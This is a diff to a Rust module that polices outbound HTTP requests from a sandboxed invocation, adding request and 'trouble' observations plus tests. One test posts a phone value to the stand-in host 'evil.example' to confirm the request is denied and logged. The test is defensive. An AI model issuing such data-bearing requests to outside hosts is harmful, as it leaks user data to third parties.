@@ -49,11 +49,20 @@ struct OutboundRequest<'a> {
 pub async fn send(
     network: Option<&Network>,
     context: OutboundContext<'_>,
-    mut request: Request,
+    request: Request,
 ) -> Result<Response, Error> {
     let Some(network) = network else {
         return Err(Error::Denied("`describe` runs without a network".into()));
     };
+    context.observations.requested(&request.method, &request.url);
+    let answer = attempt(network, context, request).await;
+    if let Err(Error::Denied(why) | Error::Unreachable(why) | Error::NoAnswer(why) | Error::TooLarge(why)) = &answer {
+        context.observations.set_trouble(Some(why.clone()));
+    }
+    answer
+}
+
+async fn attempt(network: &Network, context: OutboundContext<'_>, mut request: Request) -> Result<Response, Error> {
     let OutboundContext {
         observations, budget, ..
     } = context;
@@ -170,10 +179,10 @@ impl OutboundRequest<'_> {
             Ok(answer) => return Ok(answer),
             Err(error) => error,
         };
-        let told = match error {
-            SendError::Refused(refusal) => return Err(self.context.refuse(self.network, &refusal, Some(origin))),
-            SendError::Denied(why) => return Err(Error::Denied(why)),
-            SendError::Unreachable(why) => return Err(Error::Unreachable(format!("{origin}: {why}"))),
+        Err(match error {
+            SendError::Refused(refusal) => self.context.refuse(self.network, &refusal, Some(origin)),
+            SendError::Denied(why) => Error::Denied(why),
+            SendError::Unreachable(why) => Error::Unreachable(format!("{origin}: {why}")),
             SendError::NoAnswer(why) => Error::NoAnswer(format!("{origin}: {why}")),
             SendError::Unreadable(why) => Error::NoAnswer(format!("{origin}: the answer {why}")),
             SendError::TooLarge(why) => Error::TooLarge(format!("{origin}: {why}")),
@@ -183,11 +192,7 @@ impl OutboundRequest<'_> {
                 // invocation is dropped here.
                 std::future::pending().await
             }
-        };
-        if let Error::NoAnswer(why) | Error::TooLarge(why) = &told {
-            observations.set_unreadable(Some(why.clone()));
-        }
-        Err(told)
+        })
     }
 
     /// The fault of an invocation that was about to see a secret.
@@ -288,6 +293,7 @@ mod tests {
         assert!(matches!(error, Error::Denied(_)));
         let (sent, requests) = (observations.sent(), observations.requests());
         assert_eq!((sent, requests, observations.refused()), (false, 0, vec![]));
+        assert_eq!(observations.last_request(), None);
     }
 
     #[tokio::test]
@@ -303,6 +309,25 @@ mod tests {
         }
         assert_eq!((observations.sent(), observations.requests()), (false, 0));
         assert_eq!(observations.refused(), [("userinfo", 1), ("not-granted", 2)]);
+        let trouble = observations.trouble().unwrap();
+        assert!(trouble.starts_with("a URL with a user name"), "{trouble}");
+        let error = post(
+            Some(&crm()),
+            &observations,
+            Duration::MAX,
+            "https://evil.example/a/b?phone=98#c",
+        )
+        .await;
+        assert!(matches!(error, Error::Denied(_)));
+        let last = observations.last_request().unwrap();
+        assert_eq!(
+            (last.method.as_str(), last.path.as_str(), last.step),
+            ("POST", "/a/b", 4)
+        );
+        assert_eq!(
+            observations.trouble().unwrap().split(' ').next(),
+            Some("https://evil.example")
+        );
     }
 
     #[tokio::test]
